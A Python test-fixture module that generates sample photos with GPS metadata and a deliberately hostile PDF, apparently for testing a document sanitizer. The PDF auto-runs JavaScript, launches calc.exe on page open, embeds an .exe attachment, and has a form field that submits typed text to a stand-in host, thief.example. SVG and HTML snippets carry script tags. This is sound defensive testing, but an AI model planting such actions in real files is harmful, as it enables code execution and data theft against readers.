"""Papers as they should not be: made here, so that no real one is needed."""

from __future__ import annotations

import io
from typing import Any

import pikepdf
import pillow_heif
from PIL import Image, ImageDraw, TiffImagePlugin

from registry.pdf import to_pdf

PLACE = {1: "N", 2: (28.0, 21.0, 51.0), 3: "W", 4: (82.0, 11.0, 45.0)}
CAMERA, ROTATED = "Spoonbill Camera 9", 6


def drawing(mode: str = "RGB", size: tuple[int, int] = (60, 40)) -> Image.Image:
    """White with a dark field in its upper left corner."""
    image = Image.new("RGB", size, "white")
    ImageDraw.Draw(image).rectangle((0, 0, size[0] // 4, size[1] // 4), fill="navy")
    return image.convert(mode)


def notes(orientation: int = 1) -> Image.Exif:
    """Camera and place, as a phone writes them."""
    exif = Image.Exif()
    exif[0x0110] = CAMERA
    exif[0x0112] = orientation
    exif.get_ifd(0x8825).update(
        {
            key: tuple(TiffImagePlugin.IFDRational(n) for n in value)
            if isinstance(value, tuple)
            else value
            for key, value in PLACE.items()
        }
    )
    return exif


def photo(kind: str = "JPEG", orientation: int = 1, **options: Any) -> bytes:
    """A photo with camera, place and, where the kind has it, a comment."""
    out = io.BytesIO()
    if kind == "HEIF":
        pillow_heif.register_heif_opener()
        options["quality"] = 90
    elif kind == "JPEG":
        options["comment"] = b"taken at home"
    image = drawing()
    image.info["icc_profile"] = b""
    image.save(out, kind, exif=notes(orientation).tobytes(), **options)
    return out.getvalue()


def pdf(text: str = "Lease of the hall", **options: Any) -> bytes:
    """A harmless PDF of one page."""
    html = f"<html lang='en'><title>t</title><p>{text}</p></html>"
    return saved(pikepdf.open(io.BytesIO(to_pdf(html))), **options)


def saved(document: pikepdf.Pdf, **options: Any) -> bytes:
    """The document's bytes."""
    out = io.BytesIO()
    document.save(out, **options)
    return out.getvalue()


def in_full(document: pikepdf.Pdf) -> bytes:
    """The document's bytes with nothing pressed, to look for words in."""
    return saved(
        document,
        compress_streams=False,
        object_stream_mode=pikepdf.ObjectStreamMode.disable,
        stream_decode_level=pikepdf.StreamDecodeLevel.generalized,
    )


def hostile_pdf() -> bytes:
    """Everything a PDF can do besides being read, in one; and a photo with its place inside."""
    document = pikepdf.open(io.BytesIO(pdf()))
    script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert('here')")
    launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="calc.exe")
    document.Root.OpenAction = script
    document.Root.AA = pikepdf.Dictionary(WC=script)
    document.Root.Names = pikepdf.Dictionary(
        JavaScript=pikepdf.Dictionary(Names=["start", document.make_indirect(script)])
    )
    document.attachments["roster.exe"] = b"MZ attached"
    with document.open_metadata() as xmp:
        xmp["dc:creator"] = ["Casey Author"]
    document.docinfo["/Author"] = "Casey Author"
    page = document.pages[0]
    page.obj.AA = pikepdf.Dictionary(O=launch)
    page.obj.PieceInfo = pikepdf.Dictionary(Casey="Casey Author")
    page.obj.Annots = document.make_indirect(
        pikepdf.Array([link(document, launch), filled_in(document)])
    )
    document.Root.AcroForm = pikepdf.Dictionary(Fields=[page.obj.Annots[1]])
    picture = document.make_stream(photo())
    picture.stream_dict = pikepdf.Dictionary(
        Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Image, Width=60, Height=40,
        ColorSpace=pikepdf.Name.DeviceRGB, BitsPerComponent=8, Filter=pikepdf.Name.DCTDecode,
        Metadata=document.make_stream(b"<x:xmpmeta>Casey Author</x:xmpmeta>"),
    )  # fmt: skip
    page.add_resource(picture, pikepdf.Name.XObject, pikepdf.Name("/Photo"))
    page.contents_add(b"q 60 0 0 40 300 300 cm /Photo Do Q")
    return saved(document)


def link(document: pikepdf.Pdf, action: Any) -> Any:
    """An annotation that does something when it is touched."""
    return document.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 99, 99], A=action
        )
    )


def filled_in(document: pikepdf.Pdf) -> Any:
    """A field of a form with what somebody typed, and where it would be sent."""
    look = document.make_stream(b"/Tx BMC q BT /F1 12 Tf 2 4 Td (Typed by hand) Tj ET Q EMC")
    look.stream_dict = pikepdf.Dictionary(
        Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Form, BBox=[0, 0, 200, 20],
        Resources=pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=pikepdf.Dictionary(
            Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1, BaseFont=pikepdf.Name.Helvetica,
        ))),
    )  # fmt: skip
    submit = pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F="https://thief.example/")
    return document.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Widget, FT=pikepdf.Name.Tx, T="name",
            V="Typed by hand", Rect=[100, 500, 300, 520], F=4, A=submit,
            AP=pikepdf.Dictionary(N=look),
        )
    )  # fmt: skip


SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
)
HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
PROGRAM = b"MZ\x90\x00" + b"\0" * 200
